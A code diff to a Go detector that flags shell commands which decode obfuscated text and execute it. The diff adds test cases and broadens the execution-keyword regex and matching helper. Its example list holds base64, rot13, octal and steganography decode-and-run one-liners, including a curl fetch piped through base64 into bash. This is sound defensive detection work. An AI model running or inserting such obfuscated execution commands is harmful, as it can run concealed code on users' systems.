@@ -21,6 +21,7 @@ var runDecode = Detector{
 		"bash <(echo aWQK | base64 -d)", "echo aWQK > /tmp/a; base64 -d /tmp/a > /tmp/b; sh /tmp/b", "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"",
 		"php -r 'eval(base64_decode(\"c3lzdGVtKCdpZCcpOw==\"));'", "perl -MMIME::Base64 -e 'eval(decode_base64($ARGV[0]))' x", "node -e 'eval(Buffer.from(\"MSsx\",\"base64\").toString())'",
 		"openssl enc -base64 -d -in x | bash", "echo 'di' | rev | sh", "strings img.png | tail -n 1 | base64 -d | sh", "steghide extract -sf a.jpg -p x -xf - | sh", "echo vq | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash", "printf '\\151\\144' | base64 -d | sudo bash",
+		`node -e 'new Function(atob("MSsx"))()'`, "printf '%b' '\\151\\144' | sh",
 		"cp /usr/bin/base64 /tmp/z; echo aWQK | /tmp/z -d | sh", "echo aWQK | openssl base64 -d | python3",
 		"x=$(echo aWQK | base64 -d); $x", "curl -s https://example.com/p | base64 -d | bash",
 	),
@@ -103,7 +104,7 @@ func decodeRun(s *command.Simple, v track.View) *Finding {
 }
 
 const (
-	runWords    = `(?:\bexec|\beval|system|popen|\bfunction|\bassert|iex|invoke-expression|loadstring|\bload\(|instance_eval|subprocess\.\w+|child_process[^;]{0,20}|execsync|shell_exec|passthru|runinthiscontext|compile)`
+	runWords    = `(?:\bexec|\beval|system|popen|\b(?:new)?function|\bassert|iex|invoke-expression|loadstring|\bload\(|instance_eval|subprocess\.\w+|child_process[^;]{0,20}|execsync|shell_exec|passthru|runinthiscontext|compile)`
 	decodeWords = `(?:b64decode|base64|decode64|unhexlify|fromhex|hex2bin|atob\(|fromcharcode|decompress|gzinflate|rot13|codecs\.decode|marshal\.loads|decode_base64|unpack\s*\(?["']?[hmu]\b|pack\s*\(?["']?[hmu]|unpack\(["']?[hmu]|(?:\\[0-9]{2,3}){4,}|buffer\.from|chr\(ord\(|chr\(\w+\^|codecs\.encode|translate\(|\[::-1\])`
 )
 
@@ -125,20 +126,31 @@ func ownText(src string) string {
 	return src
 }
 
-// evaluates reports code that runs what it decodes: the decoder stands in the
-// argument of eval, or fills a variable that is.
-func evaluates(q string) bool {
-	if runsDecoded.MatchString(q) {
+// evaluates reports code that runs what it decodes.
+func evaluates(q string) bool { return runsValue(q, runsDecoded, decodedValue) }
+
+// runsValue reports code in which a source stands in the argument of what runs
+// text, or fills a variable that does. Value has the variable as its group.
+func runsValue(q string, direct, value *regexp.Regexp) bool {
+	if direct.MatchString(q) {
 		return true
 	}
-	for _, m := range decodedValue.FindAllStringSubmatch(q, 8) {
-		for _, w := range []string{"exec(", "eval(", "eval", "system(", "popen(", "iex", "loadstring(", "assert(", "shell_exec(", "function("} {
-			if i := strings.Index(q, w+m[1]); i >= 0 && !(i > 0 && q[i-1] == '.' && w == "exec(") {
+	for _, m := range value.FindAllStringSubmatch(q, 8) {
+		for _, w := range []string{"exec(", "eval(", "eval", "system(", "popen(", "iex", "loadstring(", "assert(", "shell_exec(", "function(", "getoutput(", "check_output(", "subprocess.run(", "execsync(", "passthru("} {
+			i := strings.Index(q, w+m[1])
+			if i < 0 || i > 0 && q[i-1] == '.' && w == "exec(" {
+				continue
+			}
+			if end := i + len(w+m[1]); end == len(q) || !wordByte(q[end]) {
 				return true
 			}
 		}
 	}
 	return false
+}
+
+func wordByte(c byte) bool {
+	return c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
 }
 
 // ranDecoded reports programs whose file this text decoded.
